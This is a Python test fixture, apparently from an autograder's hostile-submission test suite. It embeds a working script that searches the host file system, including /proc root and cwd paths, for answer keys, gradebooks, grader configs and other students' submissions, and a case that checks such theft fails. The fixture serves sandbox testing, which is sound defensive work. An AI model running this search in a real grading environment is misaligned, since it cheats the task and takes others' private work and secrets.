"""Walks the file system for hidden tests, the solution, keys, gradebook, others' submissions."""

from tests.hostile.case import Case

ATTACK = r"""
import os, re, sys, time

LOOT, END = set(), time.monotonic() + 2
NAMES = ["keys.txt", "gradebook.db", "nbgrader_config.py", "trial.ipynb", "trials/trial.ipynb"]
DEEP = ["source", "release", "autograded", "feedback", "submitted", "submitted/z-honest", ".."]


def look(path):
    try:
        with open(os.open(path, os.O_RDONLY | os.O_NONBLOCK), "rb") as file:
            LOOT.update(re.findall(rb"wall-of-the[-]court[\w-]*", file.read(2**22)))
    except OSError:
        pass


# What the kernel and Python tell of the host's folders, and every folder above them.
told = sys.path + [sys.prefix, sys.executable]
try:
    told += open("/proc/self/mountinfo").read().split()
except OSError:
    pass
roots = {"/", "/data", "/home", "/root", "/srv/nbgrader", "/course", "/tmp", "/mnt"}
for path in filter(os.path.isabs, told):
    while path != "/":
        path = os.path.dirname(path)
        roots.add(path)
for root in list(roots):
    for way in ("/proc/self/root", "/proc/1/root", "/proc/self/cwd/../..", "/proc/1/cwd/../.."):
        roots.add(way + root)
for root in roots:
    for place in [root, *(f"{root}/{one}" for one in DEEP)]:
        for name in NAMES:
            look(f"{place}/{name}")
for top in ["/tmp", "/srv", "/home", "/root", "/var", "/run", "/opt", "/etc", "/usr/local", "/"]:
    for folder, folders, files in os.walk(top):
        folders[:] = [one for one in folders if one not in ("proc", "share", "lib", "include")]
        for name in files:
            look(f"{folder}/{name}")
            if time.monotonic() > END:
                break
print(sorted(LOOT), len(roots))
"""
CASE = Case(
    first=ATTACK,
    cells={"double": "def double(x):\n    return 2 * x if LOOT else None"},
    lost={"test_double", "test_double_hidden"},
)
